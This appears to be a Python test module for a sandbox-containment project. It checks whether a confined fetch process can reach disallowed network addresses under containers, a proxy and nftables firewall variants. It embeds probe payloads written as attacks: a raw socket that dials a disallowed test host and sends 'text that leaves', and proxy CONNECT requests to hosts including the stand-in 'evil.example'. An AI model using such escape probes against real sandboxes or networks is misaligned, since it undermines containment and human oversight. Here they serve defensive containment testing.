"""One direct connection, tried under each level alone; run by `internet.run_inside`.

Whoever tries it is an owned FETCH: any program at all, where FETCH runs.
"""

import json
import socket
import ssl
import subprocess
from collections.abc import Callable
from contextlib import suppress
from dataclasses import replace
from ipaddress import ip_address
from pathlib import Path
from typing import Any

from tests.support.boxes import said, start_with
from tests.support.containers import Containers
from tests.support.internet import RESOLV_CONF, Internet
from tests.support.origin import ORIGIN, OTHER
from tests.support.policies import altered, policy
from tests.support.proxies import ProxyBox, bundle
from tests.support.squid import wait_until
from tests.support.wires import GATEWAY, MODEL_PORT, Wire, as_somebody
from threegate.host.deploy.files import generate, write
from threegate.host.deploy.firewall import firewall
from threegate.host.deploy.place import OWNER, Place
from threegate.sandbox.attacks.scene import says_nothing
from threegate.sandbox.machine import find_machine
from threegate.sandbox.profiles import FETCH_RETRIEVE
from threegate.sandbox.session import run_gate

PLACE = Place()
# The attack: dial an address that no rule allows, and say something there.
DIRECT = f"""
import errno, socket
def direct():
    try:
        with socket.socket() as sock:
            sock.settimeout(30)
            sock.connect(("{OTHER}", 443))
            sock.sendall(b"text that leaves")
            return "connected"
    except OSError as exc:
        return errno.errorcode[exc.errno]
"""
IN_CONTAINER = DIRECT + "\nimport json\nprint(json.dumps(direct()))"
# In its box FETCH has one way: it tries that for what it cannot dial, too.
IN_BOX = (
    "import json\n"
    + DIRECT
    + f"""
def ask(host):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.connect("/run/proxy.sock")
        sock.sendall(f"CONNECT {{host}}:443 HTTP/1.1\\r\\nHost: {{host}}:443\\r\\n\\r\\n".encode())
        return sock.recv(4096).split(b"\\r\\n")[0].decode()
def main():
    read_message(0, 1024)
    hosts = ("api.crossref.org", "evil.example", "{OTHER}")
    found = {{"direct": direct(), **{{host: ask(host) for host in hosts}}}}
    write_message(3, json.dumps(found).encode())
"""
)


def scenes(directory: Path) -> dict[str, Any]:
    """Return, for no level and for each alone, what was reached and what arrived."""
    directory.chmod(0o755)
    with Internet(directory, names=True) as world:
        scene = Scenes(world)
        scene.play("none", lambda: as_fetch(PLACE.uids["fetch-retrieve"]))
        scene.play("none, owner", lambda: as_fetch(PLACE.uids[OWNER]))
        scene.play("container", lambda: in_container(directory))
        scene.play("proxy", lambda: in_box(directory))
        scene.play("laptop firewall", lambda: behind_firewall(directory, "laptop"))
        scene.play("strict firewall", lambda: behind_firewall(directory, "strict"))
        return scene.told


class Scenes:
    """Plays one after the other, and knows what arrived because of which."""

    def __init__(self, world: Internet) -> None:
        self._world, self.told = world, dict[str, Any]()

    def play(self, title: str, act: Callable[[], Any]) -> None:
        before = len(self._world.arrived())
        found = act()
        for address in (ORIGIN, OTHER):
            self._mark(address, f"mark-{len(self.told)}.test")
        arrived = [e["origin"] for e in self._world.arrived()[before:] if e["event"] == "connect"]
        for address in (ORIGIN, OTHER):
            arrived.remove(address)  # the mark itself
        self.told[title] = {"found": found, "arrived": arrived}

    def _mark(self, address: str, name: str) -> None:
        """Connect by ourselves: an origin writes down one connection after the other."""
        context = ssl.create_default_context()
        with suppress(OSError), socket.create_connection((address, 443), 10) as sock:
            context.wrap_socket(sock, server_hostname=name)
        wanted = {"event": "hello", "origin": address, "name": name}
        wait_until(lambda: wanted in self._world.seen(), f"{address} sees {name}")


def as_fetch(uid: int) -> Any:
    """Try it as an account, with nothing around it."""

    def act() -> Any:
        names: dict[str, Any] = {}
        exec(DIRECT, names)  # noqa: S102  # the interpreter of the tests may be root's alone
        return names["direct"]()

    return as_somebody(uid, act)()


def in_container(directory: Path) -> Any:
    """Try it in the container of FETCH; no proxy runs, no rule is loaded."""
    files = directory / "infra"
    write(files, generate(bundle(), PLACE))
    with Containers(directory, files) as containers:
        return containers.attack("fetch", IN_CONTAINER)


def behind_firewall(directory: Path, variant: str) -> Any:
    """Try it as the account of FETCH, and as the proxy's, which may."""
    file = directory / f"{variant}.nft"
    file.write_text(firewall(policy(), PLACE, strict=variant == "strict"), "utf-8")
    subprocess.run(["nft", "-f", file], check=True)
    found = {name: as_fetch(PLACE.uids[name]) for name in ("fetch-retrieve", OWNER, "proxy")}
    listed = ["nft", "--json", "list", "counter", "inet", "threegate", "silent_refused"]
    counted = json.loads(subprocess.run(listed, capture_output=True, check=True).stdout)
    (packets,) = [i["counter"]["packets"] for i in counted["nftables"] if "counter" in i]
    subprocess.run(["nft", "delete", "table", "inet", "threegate"], check=True)
    return {**found, "counted": packets}


def in_box(directory: Path) -> Any:
    """Try it in FETCH's own box, whose one way is the socket of the real proxy."""
    with ProxyBox(directory, RESOLV_CONF) as proxy:
        proxy.apply(bundle())
        start = start_with(directory, IN_BOX, FETCH_RETRIEVE)
        (directory / "payload_under_test.py").chmod(0o644)
        proxy.socket.chmod(0o666)
        given = {
            **start.given,
            "proxy": str(proxy.socket),
            "certificates": str(directory / "ca.pem"),
        }
        answer = run_gate(find_machine(), replace(start, given=given), b"go")
        lines = proxy.hear(lambda lines: len(lines) >= 3)
        return {"reached": json.loads(said(answer)), "decided": lines}


# -- Who reaches what under the generated firewall; run by `internet.run_inside`.

SERVER = {"kind": "bridge", "endpoint": f"127.0.0.1:{MODEL_PORT}", "sha256": None}
SOMEBODY = 4242
FIREWALLED = Place(resolvers=(ip_address(GATEWAY),))
UIDS = {**FIREWALLED.uids, "somebody": SOMEBODY, "root": 0}


def firewall_scenes(directory: Path) -> dict[str, Any]:
    """Return who reached what: without rules, and with each variant."""
    directory.chmod(0o755)
    rules = altered(policy(), lambda sections: sections["core"]["model"].update(SERVER))
    told: dict[str, Any] = {}
    with Wire(directory) as wire:
        told["none"] = {"reached": wire.sweep({"fetch-retrieve": UIDS["fetch-retrieve"]})}
        told["none"]["far"] = wire.arrived()
        told["none"]["silent"] = _silent()
        for variant in ("laptop", "strict"):
            file = directory / f"{variant}.nft"
            file.write_text(firewall(rules, FIREWALLED, strict=variant == "strict"), "utf-8")
            subprocess.run(["nft", "-f", file], check=True)
            told[variant] = {"reached": wire.sweep(UIDS), "far": wire.arrived()}
            told[variant]["silent"] = _silent()
            listed = ["nft", "--json", "list", "counters", "table", "inet", "threegate"]
            counted = json.loads(subprocess.run(listed, capture_output=True, check=True).stdout)
            told[variant]["counters"] = {
                item["counter"]["name"]: item["counter"]["packets"]
                for item in counted["nftables"]
                if "counter" in item
            }
    return told


def _silent() -> list[str]:
    """Return whom the doctor would find silenced."""
    return [name for name, uid in UIDS.items() if says_nothing(uid)]
